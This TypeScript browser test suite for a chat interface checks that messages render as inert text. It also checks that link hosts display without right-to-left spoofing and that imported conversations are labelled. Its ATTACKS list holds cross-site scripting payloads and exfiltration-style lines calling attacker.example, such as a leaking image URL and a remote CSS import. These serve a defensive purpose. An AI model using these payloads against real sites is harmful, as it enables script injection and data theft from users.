/** What a model or a person writes is text: no script, no dialog, no request leaves the page (P25, S0-78). */
import assert from "node:assert/strict";
import { renamed } from "../events/exported.ts";
import { goWithin, visits } from "./harness.ts";
import { becomes, eventually, send, settled } from "./steps.ts";

const visit = visits();

const ATTACKS = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:alert(1))",
  "![pixel](https://attacker.example/leak?secret=1)",
  '![x](https://attacker.example/a.png "onload=alert(1)")',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>@import 'https://attacker.example/x.css'</style>",
  "[ref]: https://attacker.example/ref\n\n![ref]",
  "<a href='https://attacker.example' ping='https://attacker.example'>x</a>",
  "```html\n<script>alert(1)</script>\n```",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "<form action=https://attacker.example><input name=q autofocus onfocus=alert(1)>",
];

// Shows S0-77, S0-78, P25.
visit(
  "whatever is written stays text: no dialog, no script, no request to elsewhere",
  async (bowl) => {
    const id = await bowl.conversation({ Echo: "echo" });
    const page = await bowl.open(`/c/${id}`);
    const elsewhere: string[] = [];
    const dialogs: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(bowl.address)) elsewhere.push(request.url());
    });
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await send(page, ATTACKS.join("\n\n"));
    await settled(page, 1);
    const answer = page.locator("article.theirs");
    await answer.locator(".rich").waitFor();
    await eventually(async () =>
      assert.match(
        await answer.innerText(),
        /<script>alert\(1\)<\/script>/,
        "the answer holds the attacks, as text",
      )
    );
    await eventually(async () => {
      const bad = await answer.evaluate((element) =>
        [...element.querySelectorAll("*")].filter((one) =>
          /^(script|img|iframe|style|object|embed|form|meta|link|base)$/i.test(one.tagName) ||
          [...one.attributes].some(({ name }) => name.startsWith("on"))
        ).map((one) => one.outerHTML)
      );
      assert.deepEqual(bad, []);
    });
    const links = await answer.locator("a").evaluateAll((all) =>
      all.map((one) => [one.getAttribute("href"), one.getAttribute("rel")])
    );
    for (const [href, rel] of links) {
      assert.match(href ?? "", /^(https?:|mailto:)/);
      assert.equal(rel, "noopener noreferrer");
    }
    assert.deepEqual(dialogs, []);
    assert.deepEqual(elsewhere, []);
  },
);

// Shows S0-77.
visit(
  "the host of a link reads from left to right whatever stands before it, and a lost address says so",
  async (bowl) => {
    const id = await bowl.conversation({ Echo: "echo" });
    const page = await bowl.open(`/c/${id}`);
    await send(
      page,
      "[a\u202e](http://moc.elgoog.live.example/) and [b](http://xn--bcher-kva.example/) [c](http://b\u00fccher.example/)",
    );
    await settled(page, 1);
    const hosts = page.locator("article.theirs .host");
    await hosts.first().waitFor();
    await becomes(() => hosts.allTextContents(), [
      "moc.elgoog.live.example",
      "xn--bcher-kva.example",
      "xn--bcher-kva.example",
    ]);
    await eventually(async () => {
      const places = await hosts.first().evaluate((host) => {
        const text = host.firstChild ?? host;
        return [...host.textContent ?? ""].map((_, index) => {
          const range = document.createRange();
          range.setStart(text, index);
          range.setEnd(text, index + 1);
          return range.getBoundingClientRect().left;
        });
      });
      assert.deepEqual(
        places,
        places.toSorted((a, b) => a - b),
        "each letter stands right of the one before",
      );
    });
    await page.goto(`${bowl.address}/c/%ZZ`);
    await page.getByRole("heading", { name: "Nothing here" }).waitFor();
  },
);

// Shows P20.
visit(
  "what came with a file is marked, and nobody else's words are shown as one's own",
  async (bowl) => {
    const id = await bowl.conversation({ Echo: "echo", Ada: "echo" });
    const page = await bowl.open(`/c/${id}`);
    await send(page, "written there");
    await settled(page, 2);
    const file = await (await fetch(`${bowl.address}/api/conversations/${id}/export`, {
      headers: { origin: bowl.address },
    })).text();
    const taken = await fetch(`${bowl.address}/api/import`, {
      method: "POST",
      headers: { origin: bowl.address, "content-type": "application/x-ndjson" },
      body: renamed(file, id, "conversation_from_there"),
    });
    assert.equal(taken.status, 201, await taken.text());
    await goWithin(page, "/c/conversation_from_there");
    await page.getByText("This conversation was imported.").waitFor();
    await send(page, "written here");
    await settled(page, 4);
    const folded = page.locator(".exchange.folded .mine .open", { hasText: "written there" });
    await eventually(async () => assert.match(await folded.innerText(), /User\s*imported/, "folded too"));
    await folded.click();
    await eventually(async () => {
      const mine = await page.locator("article.mine header").evaluateAll((all) =>
        all.map((
          one,
        ) => [one.querySelector(".author")?.textContent, one.querySelector(".elsewhere")?.textContent ?? ""])
      );
      assert.deepEqual(mine, [["User", "imported"], ["You", ""]]);
    });
    await eventually(async () => {
      const marks = await page.locator(".elsewhere").evaluateAll((all) =>
        all.map((mark) => Math.round(mark.getBoundingClientRect().width))
      );
      assert.equal(
        new Set(marks).size,
        1,
        `in a card and beside it the mark is as wide as its word: ${marks}`,
      );
    });
  },
);
